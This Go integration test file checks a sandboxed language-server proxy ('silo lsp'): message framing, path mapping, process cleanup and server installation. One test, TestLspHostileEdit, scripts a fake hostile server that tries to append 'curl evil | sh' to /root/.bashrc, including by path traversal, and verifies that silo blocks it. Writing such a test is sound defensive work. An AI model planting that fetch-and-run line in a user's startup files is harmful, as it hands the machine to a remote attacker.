package tests

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/silo-dev/silo/lsp"
)

// lspProc is one `silo lsp` process as an editor sees it: its stdin to
// write messages to, its stdout to read them from.
type lspProc struct {
	cmd    *exec.Cmd
	in     io.WriteCloser
	out    *lsp.Reader
	raw    *bytes.Buffer // every byte read from stdout, in order
	stderr *syncBuffer
}

// syncBuffer is a bytes.Buffer safe to write from exec's copier while a
// test reads it.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// teeReader records what passes through it.
type teeReader struct {
	r io.Reader
	w *bytes.Buffer
}

func (t teeReader) Read(p []byte) (int, error) {
	n, err := t.r.Read(p)
	t.w.Write(p[:n])
	return n, err
}

// startLsp starts `silo lsp ARGS…` in dir with the sandbox's homes. It is
// killed when the test ends, and after five minutes (a first run unpacks
// its image).
func startLsp(t *testing.T, s *sandbox, dir string, args ...string) *lspProc {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	t.Cleanup(cancel)
	cmd := exec.CommandContext(ctx, siloBin, append([]string{"lsp"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "SILO_HOME="+s.home, "HOME="+s.userHome, "SILO_BACKEND="+s.backend)
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	p := &lspProc{cmd: cmd, raw: &bytes.Buffer{}, stderr: &syncBuffer{}}
	cmd.Stderr = p.stderr
	var err error
	if p.in, err = cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	p.out = lsp.NewReader(teeReader{stdout, p.raw})
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	return p
}

// frameMsg frames one message body.
func frameMsg(body string) string {
	return fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(body), body)
}

// send writes one framed message.
func (p *lspProc) send(t *testing.T, body string) {
	t.Helper()
	if _, err := io.WriteString(p.in, frameMsg(body)); err != nil {
		t.Fatalf("send: %v (stderr: %s)", err, p.stderr.String())
	}
}

// recv reads one message.
func (p *lspProc) recv(t *testing.T) string {
	t.Helper()
	m, err := p.out.Next()
	if err != nil {
		t.Fatalf("read a message from silo lsp: %v (stderr: %s)", err, p.stderr.String())
	}
	return string(m.Body)
}

// wait waits for silo lsp to exit and returns its status.
func (p *lspProc) wait(t *testing.T) int {
	t.Helper()
	_, _ = io.Copy(io.Discard, teeReader{readerOf(p.out), p.raw})
	err := p.cmd.Wait()
	if ee, ok := err.(*exec.ExitError); ok {
		return ee.ExitCode()
	}
	if err != nil {
		t.Fatalf("silo lsp: %v", err)
	}
	return 0
}

// readerOf drains what is left: Next until the stream ends.
func readerOf(r *lsp.Reader) io.Reader {
	pr, pw := io.Pipe()
	go func() {
		for {
			if _, err := r.Next(); err != nil {
				pw.Close()
				return
			}
		}
	}()
	return pr
}

// lspSandbox is a sandbox whose config.toml also defines tools whose
// language server is the busybox image's tee: a fake server that echoes
// every byte it receives and records them in the file its argument names.
func lspSandbox(t *testing.T, tools map[string]string) (*sandbox, string) {
	t.Helper()
	s := newSandbox(t, "namespace")
	var cfg strings.Builder
	fmt.Fprintf(&cfg, "[tool.bb]\nimage = %q\nshims = [\"sh\"]\n", s.image)
	for name, lspKey := range tools {
		fmt.Fprintf(&cfg, "[tool.%s]\nimage = %q\n%s\n", name, s.image, lspKey)
	}
	writeFile(t, filepath.Join(s.home, "config.toml"), cfg.String())
	ws := filepath.Join(t.TempDir(), "my proj é")
	writeFile(t, filepath.Join(ws, "silo.toml"), "tools = [\"bb\"]\n")
	return s, ws
}

func randomWord(t *testing.T) string {
	b := make([]byte, 6)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

// TestLspEchoServer: the editor's messages reach a fake server (tee) with
// the project's paths mapped to /workspace and nothing else changed, byte
// for byte, also when a message is split across writes and when one is a
// batch; what the server sends back reaches the editor with host paths,
// spelled as the editor spelled its root. The exit notification ends the
// connection although the editor keeps stdin open.
func TestLspEchoServer(t *testing.T) {
	s, ws := lspSandbox(t, map[string]string{"echo": `lsp = ["tee", "seen.log"]`})
	// The editor writes its root with lower-case escapes; answers must
	// come back the same way.
	root := "file://" + strings.ReplaceAll(lsp.EncodePath(ws), "%C3%A9", "%c3%a9")
	guest := "file:///workspace"
	msgs := []struct{ editor, server string }{
		{`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"processId":1,"rootPath":%q,"rootUri":"%s","capabilities":{}}}`, ""},
		{`{"jsonrpc":"2.0","method":"textDocument/didOpen","params":{"textDocument":{"uri":"%s/d%%C3%%A9j%%C3%%A0%%20vu.py","languageId":"python","version":1,"text":"x = %q\n"}}}`, ""},
		{`[{"jsonrpc":"2.0","id":2,"method":"textDocument/definition","params":{"textDocument":{"uri":"%s/a.py"},"position":{"line":0,"character":1}}},{"jsonrpc":"2.0","id":3,"method":"x","params":{"p":"/etc/hosts","q":"file:///home/other/a.py"}}]`, ""},
	}
	msgs[0].editor = fmt.Sprintf(msgs[0].editor, ws, root)
	msgs[0].server = fmt.Sprintf(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"processId":1,"rootPath":%q,"rootUri":"%s","capabilities":{}}}`, "/workspace", guest)
	msgs[1].server = fmt.Sprintf(msgs[1].editor, guest, ws)
	msgs[1].editor = fmt.Sprintf(msgs[1].editor, root, ws)
	msgs[2].server = fmt.Sprintf(msgs[2].editor, guest)
	msgs[2].editor = fmt.Sprintf(msgs[2].editor, root)
	exit := "{\"jsonrpc\":\"2.0\",\n \"method\" : \"exit\"}"

	p := startLsp(t, s, ws, "echo")
	var sent, want bytes.Buffer
	for i, m := range msgs {
		f := frameMsg(m.editor)
		sent.WriteString(f)
		want.WriteString(frameMsg(m.server))
		if i == 1 { // split inside the header and inside the body
			for _, part := range []string{f[:7], f[7:30], f[30:90], f[90:]} {
				if _, err := io.WriteString(p.in, part); err != nil {
					t.Fatal(err)
				}
				time.Sleep(20 * time.Millisecond)
			}
		} else if _, err := io.WriteString(p.in, f); err != nil {
			t.Fatal(err)
		}
		if got := p.recv(t); got != m.editor {
			t.Fatalf("message %d came back as\n%s\nwant\n%s", i, got, m.editor)
		}
	}
	p.send(t, exit)
	sent.WriteString(frameMsg(exit))
	want.WriteString(frameMsg(exit))
	if code := p.wait(t); code != 0 {
		t.Fatalf("silo lsp exited %d after exit: %s", code, p.stderr.String())
	}
	p.in.Close()
	seen, err := os.ReadFile(filepath.Join(ws, "seen.log"))
	if err != nil {
		t.Fatal(err)
	}
	if string(seen) != want.String() {
		t.Errorf("the server received\n%q\nwant\n%q", seen, want.String())
	}
	if p.raw.String() != sent.String() {
		t.Errorf("the editor received\n%q\nwant\n%q", p.raw.String(), sent.String())
	}
}

// guestProcs lists the host's processes whose command line holds word.
func guestProcs(word string) []string {
	var found []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && bytes.Contains(b, []byte(word)) {
			found = append(found, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
		}
	}
	return found
}

// waitGone waits (up to 30 s, generous for a loaded machine) until no
// process holds word in its command line, and fails the test otherwise.
func waitGone(t *testing.T, word string) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		left := guestProcs(word)
		if len(left) == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("processes left behind: %q", left)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestLspStdinEOF: silo status shows the running language server; the
// editor closing the connection ends the server and its sandbox.
func TestLspStdinEOF(t *testing.T) {
	marker := "eof-" + randomWord(t)
	s, ws := lspSandbox(t, map[string]string{"echo": fmt.Sprintf(`lsp = ["tee", %q]`, marker)})
	p := startLsp(t, s, ws, "echo")
	p.send(t, `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`)
	p.recv(t)
	if len(guestProcs(marker)) == 0 {
		t.Fatal("the fake server is not running")
	}
	if r := s.silo(t, ws, nil, nil, "status"); r.Code != 0 || !strings.Contains(r.Stdout, "echo (language server)") || !strings.Contains(r.Stdout, ws) {
		t.Errorf("silo status does not show the language server: exit %d\n%s%s", r.Code, r.Stdout, r.Stderr)
	}
	p.in.Close()
	if code := p.wait(t); code != 0 {
		t.Errorf("silo lsp exited %d: %s", code, p.stderr.String())
	}
	waitGone(t, marker)
}

// TestLspEditorKilled: an editor killed with SIGKILL leaves no sandbox
// behind, even when something else still holds silo's stdin open (here,
// the test), so that silo never sees end of file.
func TestLspEditorKilled(t *testing.T) {
	marker := "killed-" + randomWord(t)
	s, ws := lspSandbox(t, map[string]string{"echo": fmt.Sprintf(`lsp = ["tee", %q]`, marker)})
	inR, inW, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer inW.Close()
	outR, outW, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer outR.Close()
	// The "editor": a shell that runs silo lsp as its child.
	editor := exec.Command("sh", "-c", `"$0" lsp echo; echo unreachable`, siloBin)
	editor.Dir, editor.Stdin, editor.Stdout = ws, inR, outW
	editor.Env = append(os.Environ(), "SILO_HOME="+s.home, "HOME="+s.userHome, "SILO_BACKEND="+s.backend)
	// A file, not a buffer: exec would wait for every holder of a pipe,
	// silo included, before Wait returned.
	stderr, err := os.CreateTemp(t.TempDir(), "stderr")
	if err != nil {
		t.Fatal(err)
	}
	defer stderr.Close()
	editor.Stderr = stderr
	if err := editor.Start(); err != nil {
		t.Fatal(err)
	}
	inR.Close()
	outW.Close()
	t.Cleanup(func() { _ = editor.Process.Kill(); _ = editor.Wait() })
	if _, err := io.WriteString(inW, frameMsg(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`)); err != nil {
		t.Fatal(err)
	}
	if _, err := lsp.NewReader(outR).Next(); err != nil {
		b, _ := os.ReadFile(stderr.Name())
		t.Fatalf("no answer: %v (stderr: %s)", err, b)
	}
	if len(guestProcs(marker)) == 0 {
		t.Fatal("the fake server is not running")
	}
	if len(guestProcs(siloBin)) == 0 {
		t.Fatal("silo lsp is not running")
	}
	if err := editor.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	_ = editor.Wait()
	waitGone(t, marker)
	waitGone(t, siloBin)
}

// TestLspServerMissing: a server the image lacks, and no lspInstall, is
// named with what to set.
func TestLspServerMissing(t *testing.T) {
	s, ws := lspSandbox(t, map[string]string{"py": `lsp = ["pylsp"]`})
	p := startLsp(t, s, ws, "py")
	code := p.wait(t)
	if code == 0 || !strings.Contains(p.stderr.String(), "language server pylsp is not in its image") || !strings.Contains(p.stderr.String(), "set lspInstall") {
		t.Errorf("exit %d, stderr: %s", code, p.stderr.String())
	}
	if r := s.silo(t, ws, nil, nil, "lsp", "bb"); r.Code == 0 || !strings.Contains(r.Stderr, "tool bb has no language server: set lsp") {
		t.Errorf("a tool without lsp: exit %d, stderr: %s", r.Code, r.Stderr)
	}
}

// TestLspInstall: the first silo lsp of a tool runs its lspInstall as a
// global build step (output on stderr, never on the editor's stdout); the
// server it installed then answers; the next start reuses the step.
func TestLspInstall(t *testing.T) {
	s, ws := lspSandbox(t, map[string]string{"fake": `lsp = ["fakels"]` + "\n" +
		`lspInstall = 'printf "#!/bin/sh\nexec cat\n" > /bin/fakels && chmod 755 /bin/fakels && echo installed-fakels'`})
	msg := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`
	for run := 0; run < 2; run++ {
		p := startLsp(t, s, ws, "fake")
		p.send(t, msg)
		if got := p.recv(t); got != msg {
			t.Fatalf("run %d: the installed server answered %q", run, got)
		}
		p.in.Close()
		if code := p.wait(t); code != 0 {
			t.Fatalf("run %d: exit %d: %s", run, code, p.stderr.String())
		}
		installing := strings.Contains(p.stderr.String(), "installing fake's language server fakels")
		if installing != (run == 0) {
			t.Errorf("run %d: installing said %v: %s", run, installing, p.stderr.String())
		}
		if strings.Contains(p.raw.String(), "installed-fakels") {
			t.Errorf("run %d: the build's output reached the editor's stdout", run)
		}
	}
}

// TestLspHostileEdit: a hostile language server asks the editor to write
// the user's ~/.bashrc (workspace/applyEdit with a host path, and with a
// path climbing out of /workspace): silo passes neither to the editor and
// answers the server itself that nothing was applied.
func TestLspHostileEdit(t *testing.T) {
	edit := func(id int, uri string) string {
		return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"workspace/applyEdit","params":{"edit":{"changes":{%q:[{"range":{"start":{"line":0,"character":0},"end":{"line":0,"character":0}},"newText":"curl evil | sh\n"}]}}}}`, id, uri)
	}
	script := ""
	for i, uri := range []string{"file:///root/.bashrc", "file:///workspace/../../root/.bashrc"} {
		script += fmt.Sprintf("printf 'Content-Length: %d\\r\\n\\r\\n%%s' '%s'; ", len(edit(90+i, uri)), edit(90+i, uri))
	}
	s, ws := lspSandbox(t, map[string]string{"evil": fmt.Sprintf("lsp = [\"sh\", \"-c\", %q]", script+"exec cat")})
	p := startLsp(t, s, ws, "evil")
	init := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`
	p.send(t, init)
	var got []string
	for len(got) < 3 { // the two answers silo gave the server, and init, echoed
		got = append(got, p.recv(t))
	}
	all := strings.Join(got, "\n")
	if strings.Contains(all, "applyEdit") || strings.Contains(all, ".bashrc") {
		t.Errorf("the hostile edit reached the editor:\n%s", all)
	}
	for _, id := range []string{`"id":90,"result":{"applied":false`, `"id":91,"result":{"applied":false`} {
		if !strings.Contains(all, id) {
			t.Errorf("the server was not told %s:\n%s", id, all)
		}
	}
	if !strings.Contains(all, init) {
		t.Errorf("the editor's own message did not come back:\n%s", all)
	}
	p.in.Close()
	p.wait(t)
}
